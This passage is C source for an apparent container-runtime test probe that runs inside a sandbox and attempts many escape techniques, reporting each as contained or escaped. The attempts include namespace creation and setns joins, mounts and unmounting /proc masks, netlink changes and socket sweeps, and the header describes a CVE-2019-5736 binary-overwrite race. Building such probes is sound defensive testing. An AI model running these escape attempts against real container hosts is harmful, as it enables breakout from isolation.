/*
 * adversary: the adversarial payload of issue #4. Runs inside an rloxsc container (as its init, or
 * through `rloxsc exec`) and makes every escape attempt it knows, printing one machine-readable line
 * per attempt:
 *
 *   ATTEMPT <name> CONTAINED <how>
 *   ATTEMPT <name> ESCAPED <what happened>
 *   ATTEMPT <name> ERROR <why the probe itself is broken>      (counts as a failure)
 *
 * then "SUMMARY <n> contained, <m> escaped, <e> errors". Exit status 0 only when nothing escaped and
 * no probe broke.
 *
 * Every attempt runs in a forked child (its own process group, with an alarm), so a probe that is
 * killed (the i386 ABI), crashes or hangs is reported, not suffered; the verdict travels back through a
 * pipe, and a child that dies without one is an ERROR.
 *
 * --self-test runs the chosen attempts on the HOST, where many of them must succeed: it proves a probe
 * can see an escape. Attempts that would change the host refuse to run there; the ones that change
 * only the calling process's own namespaces first move into new private ones (mount, network, uts).
 *
 * --race-exe SECONDS is the CVE-2019-5736 attacker: it creates /tmp/evil (#!/proc/self/exe), watches
 * /proc for processes running a binary that is not its own or busybox (the runtime appearing in the
 * container's pid namespace during `exec`), takes O_PATH handles on their /proc/<pid>/exe, and keeps
 * trying to reopen them for writing. An open for writing is the escape; only with --race-write (the
 * test points it at a private copy of the runtime) does it go on to overwrite the binary's first bytes.
 *
 * Built statically by scripts/build-bundle.sh into the test rootfs as /bin/adversary.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif
#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
#ifndef SYS_fspick
#define SYS_fspick 433
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_process_madvise
#define SYS_process_madvise 440
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef SYS_quotactl_fd
#define SYS_quotactl_fd 443
#endif
#ifndef SYS_memfd_secret
#define SYS_memfd_secret 447
#endif
#ifndef SYS_kexec_file_load
#define SYS_kexec_file_load 320
#endif
#define OPEN_TREE_CLONE_ 1
#define AT_RECURSIVE_ 0x8000
#define MOUNT_ATTR_RDONLY_ 0x1
#define UFFD_USER_MODE_ONLY_ 1
#define TMPFS_MAGIC_ 0x01021994
#define PROC_SUPER_MAGIC_ 0x9fa0
#define SYSFS_MAGIC_ 0x62656572
#define DEVPTS_SUPER_MAGIC_ 0x1cd1

/* ---------------------------------------------------------------------------------------------- */
/* options */

static int self_test;
static int port = -1;
static const char *abstract_name;
static const char *host_hostname;
static const char *host_marker; /* reversed */
static const char *host_ns; /* "pid=INODE,net=INODE,..." */
static const char *handle_spec; /* "TYPE:HEX" */
static const char *handle_mount = "/";
static long shm_key = -1;
static long max_forks = 2000, max_mem_mb = 1024, max_fds = 70000, max_tmpfs_mb = 1200;
static const char *only, *skip;
static int race_seconds;
static int race_write;

/* fds open when main() started (CVE-2024-21626): recorded before anything else is opened */
#define MAX_INHERITED 64
static int inherited[MAX_INHERITED];
static int n_inherited;

/* ---------------------------------------------------------------------------------------------- */
/* output */

static void write_all(int fd, const char *buf, size_t n)
{
    while (n > 0) {
        ssize_t w = write(fd, buf, n);
        if (w < 0) {
            if (errno == EINTR)
                continue;
            return;
        }
        buf += w;
        n -= (size_t)w;
    }
}

static void say(const char *fmt, ...)
{
    char line[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof line - 2)
        n = sizeof line - 2;
    line[n++] = '\n';
    write_all(1, line, (size_t)n);
}

/* The pipe an attempt's child reports its verdict through. */
static int verdict_fd = -1;

__attribute__((noreturn)) static void verdict(const char *v, const char *fmt, va_list ap)
{
    char msg[3800];
    int n = snprintf(msg, sizeof msg, "%s ", v);
    vsnprintf(msg + n, sizeof msg - (size_t)n, fmt, ap);
    for (char *p = msg; *p; p++)
        if (*p == '\n' || *p == '\r' || *p == '\t' || (unsigned char)*p < 0x20)
            *p = ' ';
    write_all(verdict_fd, msg, strlen(msg));
    _exit(0);
}

__attribute__((noreturn, format(printf, 1, 2))) static void CONTAINED(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    verdict("CONTAINED", fmt, ap);
}

__attribute__((noreturn, format(printf, 1, 2))) static void ESCAPED(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    verdict("ESCAPED", fmt, ap);
}

__attribute__((noreturn, format(printf, 1, 2))) static void ERROR(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    verdict("ERROR", fmt, ap);
}

/* Accumulated findings for attempts made of several sub-checks: any escape wins, then any error. */
static char acc_esc[2048], acc_err[1024], acc_ok[2048];

static void acc_add(char *buf, size_t size, const char *fmt, va_list ap)
{
    size_t len = strlen(buf);
    if (len + 8 >= size)
        return;
    if (len > 0) {
        strcpy(buf + len, "; ");
        len += 2;
    }
    vsnprintf(buf + len, size - len, fmt, ap);
}

__attribute__((format(printf, 1, 2))) static void note_esc(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    acc_add(acc_esc, sizeof acc_esc, fmt, ap);
    va_end(ap);
}

__attribute__((format(printf, 1, 2))) static void note_err(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    acc_add(acc_err, sizeof acc_err, fmt, ap);
    va_end(ap);
}

__attribute__((format(printf, 1, 2))) static void note_ok(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    acc_add(acc_ok, sizeof acc_ok, fmt, ap);
    va_end(ap);
}

__attribute__((noreturn)) static void finish(void)
{
    if (acc_esc[0])
        ESCAPED("%s", acc_esc);
    if (acc_err[0])
        ERROR("%s", acc_err);
    CONTAINED("%s", acc_ok[0] ? acc_ok : "nothing reachable");
}

static const char *en(int e)
{
    static char buf[64];
    const char *n = strerrorname_np(e);
    snprintf(buf, sizeof buf, "%s", n ? n : "errno?");
    if (!n)
        snprintf(buf, sizeof buf, "errno %d", e);
    return buf;
}

/* ---------------------------------------------------------------------------------------------- */
/* helpers */

/* Errno classes. A syscall rloxsc forbids must come back EPERM (the filter's answer, or the kernel's
 * capability check), ENOSYS (clone3's filter answer, or absent from this kernel) or kill the caller.
 * The arguments of each call are chosen so that the kernel checks the permission before anything
 * else; any other answer means the call reached the kernel and got past that check. */
static int is_denial(int e) { return e == EPERM || e == EACCES; }

/* Judges a cap-gated / forbidden syscall's result into the accumulators. */
static void judge(const char *what, long ret, int err)
{
    if (ret >= 0)
        note_esc("%s succeeded (returned %ld)", what, ret);
    else if (is_denial(err))
        note_ok("%s: %s", what, en(err));
    else if (err == ENOSYS)
        note_ok("%s: ENOSYS", what);
    else
        note_esc("%s reached the kernel past the permission check: %s", what, en(err));
}

/* Like judge(), but an address-family/protocol the kernel lacks is also containment. */
static void judge_socket(const char *what, int fd, int err)
{
    if (fd >= 0) {
        close(fd);
        note_esc("%s opened", what);
    } else if (is_denial(err))
        note_ok("%s: %s", what, en(err));
    else if (err == EAFNOSUPPORT || err == EPROTONOSUPPORT || err == ESOCKTNOSUPPORT || err == EINVAL ||
             err == EPROTOTYPE || err == ENOPROTOOPT || err == EOPNOTSUPP)
        note_ok("%s: %s (the kernel lacks it)", what, en(err));
    else
        note_esc("%s reached the kernel: %s", what, en(err));
}

/* In --self-test mode, destructive-but-local attempts first move into private namespaces. */
static void isolate(int flags)
{
    if (!self_test)
        return;
    if (unshare(flags) != 0)
        ERROR("self-test: cannot unshare private namespaces: %s", en(errno));
    if ((flags & CLONE_NEWNS) && mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0)
        ERROR("self-test: cannot make the private mount namespace private: %s", en(errno));
}

static ssize_t read_file(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return -1;
    size_t got = 0;
    while (got + 1 < size) {
        ssize_t r = read(fd, buf + got, size - 1 - got);
        if (r < 0) {
            if (errno == EINTR)
                continue;
            int e = errno;
            close(fd);
            errno = e;
            return got > 0 ? (ssize_t)got : -1;
        }
        if (r == 0)
            break;
        got += (size_t)r;
    }
    buf[got] = 0;
    close(fd);
    return (ssize_t)got;
}

static const char *status_field(const char *status, const char *name)
{
    static char val[128];
    size_t nl = strlen(name);
    const char *p = status;
    while (p && *p) {
        if (strncmp(p, name, nl) == 0 && p[nl] == ':') {
            p += nl + 1;
            while (*p == ' ' || *p == '\t')
                p++;
            size_t i = 0;
            while (*p && *p != '\n' && i + 1 < sizeof val)
                val[i++] = *p++;
            val[i] = 0;
            return val;
        }
        p = strchr(p, '\n');
        if (p)
            p++;
    }
    return NULL;
}

/* Is dir fd `fd` (or the cwd with AT_FDCWD) outside this process's root? Walks ".." until it stops
 * moving: inside the root that is the root itself; outside, the top of the mount namespace. */
static int outside_root(int fd, char *where, size_t wsize)
{
    struct stat root, cur, up;
    if (stat("/", &root) != 0)
        return -1;
    int c = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (c < 0)
        return -1;
    for (int depth = 0; depth < 256; depth++) {
        if (fstat(c, &cur) != 0)
            break;
        if (cur.st_dev == root.st_dev && cur.st_ino == root.st_ino) {
            close(c);
            return 0;
        }
        int u = openat(c, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (u < 0)
            break;
        if (fstat(u, &up) != 0) {
            close(u);
            break;
        }
        close(c);
        c = u;
        if (up.st_dev == cur.st_dev && up.st_ino == cur.st_ino) {
            /* the top: not our root */
            snprintf(where, wsize, "reached a filesystem top (dev %u:%u ino %lu) that is not this root", major(up.st_dev),
                     minor(up.st_dev), (unsigned long)up.st_ino);
            /* list a few names up there, as evidence */
            int d = dup(c);
            DIR *dir = d >= 0 ? fdopendir(d) : NULL;
            if (dir) {
                struct dirent *e;
                int n = 0;
                size_t l = strlen(where);
                while ((e = readdir(dir)) && n < 8 && l + 40 < wsize) {
                    if (e->d_name[0] == '.')
                        continue;
                    l += (size_t)snprintf(where + l, wsize - l, "%s%s", n ? "," : " containing ", e->d_name);
                    n++;
                }
                closedir(dir);
            }
            close(c);
            return 1;
        }
    }
    close(c);
    return -1;
}

/* Bounded recursive walk (no symlinks followed) calling fn on every regular file and device. */
struct walk {
    int files, max_files, max_depth;
    void (*fn)(const char *path, const struct stat *st, void *arg);
    void *arg;
};

static void walk_tree(struct walk *w, const char *dir, int depth)
{
    if (depth > w->max_depth || w->files >= w->max_files)
        return;
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d)) && w->files < w->max_files) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
            continue;
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", dir, e->d_name);
        struct stat st;
        if (lstat(p, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode))
            walk_tree(w, p, depth + 1);
        else if (S_ISREG(st.st_mode) || S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)) {
            w->files++;
            w->fn(p, &st, w->arg);
        }
    }
    closedir(d);
}

/* ---------------------------------------------------------------------------------------------- */
/* network */

static const char *FALLBACK_DEVICES[] = {"lo",      "sit0",    "tunl0",   "ip6tnl0",  "gre0",    "gretap0",
                                         "erspan0", "ip6gre0", "ip6_vti0", "ip_vti0", "ip6gre0", NULL};

static int netns_local_device(const char *name)
{
    for (int i = 0; FALLBACK_DEVICES[i]; i++)
        if (!strcmp(name, FALLBACK_DEVICES[i]))
            return 1;
    return 0;
}

static void a_net_host_tcp(const char *arg)
{
    (void)arg;
    if (port <= 0)
        ERROR("no --port given");
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (s < 0)
        ERROR("socket(AF_INET, SOCK_STREAM): %s", en(errno));
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int r = connect(s, (struct sockaddr *)&a, sizeof a);
    if (r != 0 && errno == EINPROGRESS) {
        struct pollfd p = {.fd = s, .events = POLLOUT};
        if (poll(&p, 1, 3000) == 1) {
            int err = 0;
            socklen_t l = sizeof err;
            getsockopt(s, SOL_SOCKET, SO_ERROR, &err, &l);
            r = err ? -1 : 0;
            errno = err;
        } else {
            r = -1;
            errno = ETIMEDOUT;
        }
    }
    if (r == 0)
        ESCAPED("connected to the host's listener on 127.0.0.1:%d", port);
    CONTAINED("connect 127.0.0.1:%d: %s", port, en(errno));
}

static void a_net_host_abstract(const char *arg)
{
    (void)arg;
    if (!abstract_name)
        ERROR("no --abstract given");
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        ERROR("socket(AF_UNIX): %s", en(errno));
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    size_t n = strlen(abstract_name);
    if (n + 1 > sizeof a.sun_path)
        ERROR("abstract name too long");
    memcpy(a.sun_path + 1, abstract_name, n);
    if (connect(s, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)) == 0)
        ESCAPED("connected to the host's abstract unix socket @%s", abstract_name);
    CONTAINED("connect @%s: %s", abstract_name, en(errno));
}

static void a_net_interfaces_procfs(const char *arg)
{
    (void)arg;
    char buf[16384];
    if (read_file("/proc/net/dev", buf, sizeof buf) < 0)
        ERROR("cannot read /proc/net/dev: %s", en(errno));
    char seen[512] = "";
    int lines = 0;
    for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
        if (++lines <= 2)
            continue;
        char *colon = strchr(line, ':');
        if (!colon)
            continue;
        *colon = 0;
        while (*line == ' ')
            line++;
        if (!netns_local_device(line))
            note_esc("/proc/net/dev shows %s", line);
        strncat(seen, line, sizeof seen - strlen(seen) - 2);
        strcat(seen, " ");
    }
    DIR *d = opendir("/sys/class/net");
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)))
            if (e->d_name[0] != '.' && !netns_local_device(e->d_name))
                note_esc("/sys/class/net shows %s", e->d_name);
        closedir(d);
    }
    note_ok("interfaces: %s", seen);
    finish();
}

static void a_net_interfaces_ioctl(const char *arg)
{
    (void)arg;
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        ERROR("socket(AF_INET, SOCK_DGRAM): %s", en(errno));
    struct ifreq reqs[64];
    struct ifconf ifc = {.ifc_len = sizeof reqs, .ifc_req = reqs};
    if (ioctl(s, SIOCGIFCONF, &ifc) != 0)
        note_err("SIOCGIFCONF: %s", en(errno));
    int n = ifc.ifc_len / (int)sizeof(struct ifreq);
    char seen[512] = "";
    for (int i = 0; i < n; i++) {
        if (!netns_local_device(reqs[i].ifr_name))
            note_esc("SIOCGIFCONF lists %s", reqs[i].ifr_name);
        strncat(seen, reqs[i].ifr_name, sizeof seen - strlen(seen) - 2);
        strcat(seen, " ");
    }
    struct if_nameindex *ni = if_nameindex();
    if (ni) {
        for (struct if_nameindex *p = ni; p->if_index; p++)
            if (!netns_local_device(p->if_name))
                note_esc("if_nameindex (netlink) lists %s", p->if_name);
        if_freenameindex(ni);
    }
    note_ok("SIOCGIFCONF: %s", seen[0] ? seen : "(none)");
    finish();
}

static void a_net_routes(const char *arg)
{
    (void)arg;
    char buf[16384];
    int n4 = 0, n6 = 0;
    if (read_file("/proc/net/route", buf, sizeof buf) >= 0) {
        int first = 1;
        for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
            if (first) {
                first = 0;
                continue;
            }
            char dev[64] = "";
            sscanf(line, "%63s", dev);
            if (dev[0] && strcmp(dev, "lo")) {
                note_esc("IPv4 route via %s", dev);
                n4++;
            }
        }
    }
    if (read_file("/proc/net/ipv6_route", buf, sizeof buf) >= 0) {
        for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
            char *dev = strrchr(line, ' ');
            if (dev && strcmp(dev + 1, "lo")) {
                note_esc("IPv6 route via %s", dev + 1);
                n6++;
            }
        }
    }
    note_ok("no route through any interface but lo");
    finish();
}

static void a_socket(const char *arg)
{
    /* arg: "family,type,protocol,label" */
    int fam, type, proto;
    char label[64];
    if (sscanf(arg, "%d,%d,%d,%63s", &fam, &type, &proto, label) != 4)
        ERROR("bad socket spec %s", arg);
    int fd = socket(fam, type | SOCK_CLOEXEC, proto);
    judge_socket(label, fd, errno);
    finish();
}

static void a_socket_other_families(const char *arg)
{
    (void)arg;
    static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET, SOCK_RAW};
    int tried = 0;
    for (int fam = 3; fam < 46; fam++) {
        if (fam == AF_INET6 || fam == AF_NETLINK)
            continue;
        for (unsigned t = 0; t < sizeof types / sizeof *types; t++) {
            int fd = socket(fam, types[t] | SOCK_CLOEXEC, 0);
            tried++;
            if (fd >= 0) {
                close(fd);
                note_esc("socket(family %d, type %d) opened", fam, types[t]);
            } else if (!is_denial(errno) && errno != EAFNOSUPPORT && errno != EPROTONOSUPPORT &&
                       errno != ESOCKTNOSUPPORT && errno != EINVAL && errno != EPROTOTYPE && errno != EOPNOTSUPP) {
                note_esc("socket(family %d, type %d) reached the kernel: %s", fam, types[t], en(errno));
            }
        }
    }
    note_ok("%d socket(family, type) pairs outside unix/inet/inet6/netlink-route: none opened", tried);
    finish();
}

static void a_socket_netlink_other(const char *arg)
{
    (void)arg;
    int opened = 0;
    for (int proto = 1; proto < 23; proto++) {
        int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, proto);
        if (fd >= 0) {
            close(fd);
            note_esc("netlink protocol %d opened", proto);
            opened++;
        } else if (!is_denial(errno) && errno != EPROTONOSUPPORT && errno != EAFNOSUPPORT) {
            note_esc("netlink protocol %d reached the kernel: %s", proto, en(errno));
        }
    }
    note_ok("netlink protocols 1..22 (all but NETLINK_ROUTE): none opened");
    finish();
}

/* Adds 10.123.45.67/32 to lo through rtnetlink (needs CAP_NET_ADMIN); removes it again on success. */
static int rtnl_addr(int sock, int type, int ifindex)
{
    struct {
        struct nlmsghdr nh;
        struct ifaddrmsg ifa;
        char attrs[64];
    } req;
    memset(&req, 0, sizeof req);
    req.nh.nlmsg_type = (unsigned short)type;
    req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | (type == RTM_NEWADDR ? NLM_F_CREATE | NLM_F_EXCL : 0);
    req.nh.nlmsg_seq = 1;
    req.ifa.ifa_family = AF_INET;
    req.ifa.ifa_prefixlen = 32;
    req.ifa.ifa_index = (unsigned)ifindex;
    struct rtattr *rta = (struct rtattr *)req.attrs;
    rta->rta_type = IFA_LOCAL;
    rta->rta_len = RTA_LENGTH(4);
    inet_pton(AF_INET, "10.123.45.67", RTA_DATA(rta));
    req.nh.nlmsg_len = NLMSG_LENGTH(sizeof req.ifa) + RTA_ALIGN(rta->rta_len);
    if (send(sock, &req, req.nh.nlmsg_len, 0) < 0)
        return -errno;
    char buf[4096];
    ssize_t n = recv(sock, buf, sizeof buf, 0);
    if (n < 0)
        return -errno;
    struct nlmsghdr *h = (struct nlmsghdr *)buf;
    if (h->nlmsg_type == NLMSG_ERROR) {
        struct nlmsgerr *e = NLMSG_DATA(h);
        return e->error;
    }
    return -EPROTO;
}

static void a_net_netlink_modify(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNET);
    int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (s < 0)
        ERROR("socket(AF_NETLINK, NETLINK_ROUTE): %s", en(errno));
    struct sockaddr_nl sa = {.nl_family = AF_NETLINK};
    if (bind(s, (struct sockaddr *)&sa, sizeof sa) != 0)
        ERROR("bind netlink: %s", en(errno));
    int lo = (int)if_nametoindex("lo");
    if (!lo)
        ERROR("no lo interface");
    int r = rtnl_addr(s, RTM_NEWADDR, lo);
    if (r == 0) {
        rtnl_addr(s, RTM_DELADDR, lo);
        ESCAPED("added 10.123.45.67/32 to lo through rtnetlink (CAP_NET_ADMIN)");
    }
    if (is_denial(-r))
        CONTAINED("RTM_NEWADDR on lo: %s", en(-r));
    ESCAPED("RTM_NEWADDR on lo got past the permission check: %s", en(-r));
}

/* ---------------------------------------------------------------------------------------------- */
/* namespaces */

static void a_userns_unshare(const char *arg)
{
    (void)arg;
    if (unshare(CLONE_NEWUSER) == 0)
        ESCAPED("unshare(CLONE_NEWUSER) succeeded");
    CONTAINED("unshare(CLONE_NEWUSER): %s", en(errno));
}

static void a_userns_clone(const char *arg)
{
    (void)arg;
    long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (r == 0)
        syscall(SYS_exit, 0);
    if (r > 0) {
        waitpid((pid_t)r, NULL, 0);
        ESCAPED("clone(CLONE_NEWUSER) created a process in a new user namespace");
    }
    CONTAINED("clone(CLONE_NEWUSER): %s", en(errno));
}

struct clone_args_ {
    uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size, cgroup;
};

static void a_userns_clone3(const char *arg)
{
    (void)arg;
    struct clone_args_ ca;
    memset(&ca, 0, sizeof ca);
    ca.flags = CLONE_NEWUSER;
    ca.exit_signal = SIGCHLD;
    long r = syscall(SYS_clone3, &ca, sizeof ca);
    if (r == 0)
        syscall(SYS_exit, 0);
    if (r > 0) {
        waitpid((pid_t)r, NULL, 0);
        ESCAPED("clone3(CLONE_NEWUSER) created a process in a new user namespace");
    }
    CONTAINED("clone3(CLONE_NEWUSER): %s", en(errno));
}

static void a_unshare_namespaces(const char *arg)
{
    (void)arg;
    static const struct {
        int flag;
        const char *name;
    } f[] = {{CLONE_NEWNS, "mnt"},       {CLONE_NEWNET, "net"}, {CLONE_NEWPID, "pid"}, {CLONE_NEWUTS, "uts"},
             {CLONE_NEWIPC, "ipc"},      {CLONE_NEWCGROUP, "cgroup"}, {0x80 /* CLONE_NEWTIME */, "time"},
             {CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, "user+mnt+cgroup (CVE-2022-0492)"}};
    for (unsigned i = 0; i < sizeof f / sizeof *f; i++) {
        pid_t p = fork();
        if (p == 0)
            _exit(unshare(f[i].flag) == 0 ? 0 : 100 + (errno > 150 ? 150 : errno));
        int st = 0;
        waitpid(p, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
            note_esc("unshare(%s) succeeded", f[i].name);
        else if (WIFEXITED(st))
            note_ok("%s: %s", f[i].name, en(WEXITSTATUS(st) - 100));
        else
            note_ok("%s: killed by signal %d", f[i].name, WTERMSIG(st));
    }
    finish();
}

static const char *NS_NAMES[] = {"pid", "mnt", "net", "ipc", "uts", "cgroup", NULL};

static void a_host_namespaces(const char *arg)
{
    (void)arg;
    if (!host_ns)
        ERROR("no --host-ns given");
    for (int i = 0; NS_NAMES[i]; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/ns/%s", NS_NAMES[i]);
        struct stat st;
        if (stat(p, &st) != 0) {
            note_err("stat %s: %s", p, en(errno));
            continue;
        }
        char key[32];
        snprintf(key, sizeof key, "%s=", NS_NAMES[i]);
        const char *h = strstr(host_ns, key);
        if (!h) {
            note_err("--host-ns lacks %s", NS_NAMES[i]);
            continue;
        }
        unsigned long hino = strtoul(h + strlen(key), NULL, 10);
        if ((unsigned long)st.st_ino == hino)
            note_esc("in the host's %s namespace (inode %lu)", NS_NAMES[i], hino);
        else
            note_ok("%s %lu", NS_NAMES[i], (unsigned long)st.st_ino);
    }
    finish();
}

static void a_setns(const char *arg)
{
    (void)arg;
    if (self_test)
        ERROR("not safe on the host (it would join other processes' namespaces)");
    /* pid 1 must be a process of the container: same root, same namespaces */
    struct stat r1, me;
    if (stat("/proc/1/root/", &r1) != 0)
        note_esc("pid 1's root is not accessible (%s): pid 1 is not a container process", en(errno));
    else if (stat("/", &me) == 0 && (r1.st_dev != me.st_dev || r1.st_ino != me.st_ino))
        note_esc("pid 1's root is not this container's root");
    for (int i = 0; NS_NAMES[i]; i++) {
        char a[64], b[64];
        snprintf(a, sizeof a, "/proc/1/ns/%s", NS_NAMES[i]);
        snprintf(b, sizeof b, "/proc/self/ns/%s", NS_NAMES[i]);
        struct stat sa, sb;
        if (stat(a, &sa) == 0 && stat(b, &sb) == 0 && sa.st_ino != sb.st_ino)
            note_esc("pid 1 is in another %s namespace", NS_NAMES[i]);
    }
    /* any visible process in namespaces other than ours is a way out: try to join it */
    DIR *d = opendir("/proc");
    int procs = 0;
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (!isdigit((unsigned char)e->d_name[0]))
                continue;
            procs++;
            for (int i = 0; NS_NAMES[i]; i++) {
                char a[300], b[64];
                snprintf(a, sizeof a, "/proc/%s/ns/%s", e->d_name, NS_NAMES[i]);
                snprintf(b, sizeof b, "/proc/self/ns/%s", NS_NAMES[i]);
                struct stat sa, sb;
                if (stat(a, &sa) != 0 || stat(b, &sb) != 0 || sa.st_ino == sb.st_ino)
                    continue;
                int fd = open(a, O_RDONLY | O_CLOEXEC);
                if (fd >= 0 && syscall(SYS_setns, fd, 0) == 0)
                    note_esc("joined the %s namespace of pid %s", NS_NAMES[i], e->d_name);
                else
                    note_esc("pid %s is visible in a foreign %s namespace (setns: %s)", e->d_name, NS_NAMES[i],
                             fd < 0 ? "cannot open" : en(errno));
                if (fd >= 0)
                    close(fd);
            }
        }
        closedir(d);
    }
    /* setns into the container's own pid 1 namespaces: the syscall is forbidden, and even if it
     * went through it would only reach the container's own namespaces */
    int fd = open("/proc/1/ns/net", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        note_err("open /proc/1/ns/net: %s", en(errno));
    else if (syscall(SYS_setns, fd, CLONE_NEWNET) == 0)
        note_ok("setns(/proc/1/ns/net) allowed, but pid 1 is the container's own");
    else
        note_ok("setns(/proc/1/ns/net): %s", en(errno));
    note_ok("%d processes visible, all in this container's namespaces", procs);
    finish();
}

/* ---------------------------------------------------------------------------------------------- */
/* mounts */

static void a_mount_tmpfs(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    long r = mount("adv", "/mnt", "tmpfs", 0, "size=1m");
    int e = errno;
    if (r == 0)
        umount2("/mnt", MNT_DETACH);
    judge("mount(tmpfs, /mnt)", r, e);
    finish();
}

static void a_mount_proc(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    long r = mount("proc", "/mnt", "proc", 0, NULL);
    int e = errno;
    if (r == 0)
        umount2("/mnt", MNT_DETACH);
    judge("mount(proc, /mnt) (an unmasked procfs)", r, e);
    finish();
}

static void a_mount_remount_root(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    long r = mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    judge("mount(/, MS_REMOUNT|MS_BIND, read-write)", r, errno);
    finish();
}

static void a_umount_masks(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    static const char *targets[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sys", "/proc/sysrq-trigger",
                                    "/sys/firmware", "/sys/fs/cgroup", "/sys", "/", NULL};
    for (int i = 0; targets[i]; i++) {
        long r = umount2(targets[i], MNT_DETACH);
        int e = errno;
        char what[128];
        snprintf(what, sizeof what, "umount2(%s)", targets[i]);
        if (r != 0 && e == EINVAL)
            note_ok("%s: EINVAL (not a mount point here)", what);
        else
            judge(what, r, e);
    }
    finish();
}

static void a_mount_fsopen(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    long r = syscall(SYS_fsopen, "tmpfs", 0);
    judge("fsopen(tmpfs)", r, errno);
    finish();
}

static void a_mount_fspick(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    long r = syscall(SYS_fspick, AT_FDCWD, "/", 0);
    judge("fspick(/)", r, errno);
    finish();
}

static void a_mount_open_tree(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    long r = syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE_ | AT_RECURSIVE_);
    judge("open_tree(/, OPEN_TREE_CLONE|AT_RECURSIVE)", r, errno);
    finish();
}

static void a_mount_setattr(const char *arg)
{
    (void)arg;
    isolate(CLONE_NEWNS);
    struct {
        uint64_t attr_set, attr_clr, propagation, userns_fd;
    } attr = {0, MOUNT_ATTR_RDONLY_, 0, 0};
    long r = syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &attr, sizeof attr);
    judge("mount_setattr(/, clear MOUNT_ATTR_RDONLY)", r, errno);
    finish();
}

static void a_mount_move(const char *arg)
{
    (void)arg;
